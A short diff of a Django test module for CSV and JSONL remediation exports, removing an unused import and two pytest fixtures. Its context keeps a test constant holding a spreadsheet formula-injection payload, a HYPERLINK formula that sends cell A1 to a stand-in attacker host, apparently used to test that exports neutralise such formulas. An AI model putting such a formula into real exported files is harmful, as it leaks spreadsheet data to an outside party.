@@ -13,7 +13,7 @@ from django.test.utils import CaptureQueriesContext
 
 from incidents.tests.factories import open_incident
 from remediation import exports
-from remediation.tests.api_helpers import LIST, api_client, field_errors
+from remediation.tests.api_helpers import LIST, field_errors
 from remediation.tests.factories import affected_record
 
 pytestmark = pytest.mark.django_db
@@ -22,14 +22,6 @@ CSV, JSONL = f"{LIST}export.csv", f"{LIST}export.jsonl"
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
-@pytest.fixture
-def client_for(role_users):
-    return lambda role, **kwargs: api_client(role_users, role, **kwargs)
-
-
-@pytest.fixture
-def incident(compliance):
-    return open_incident(compliance)
 
 
 def body(response) -> str:
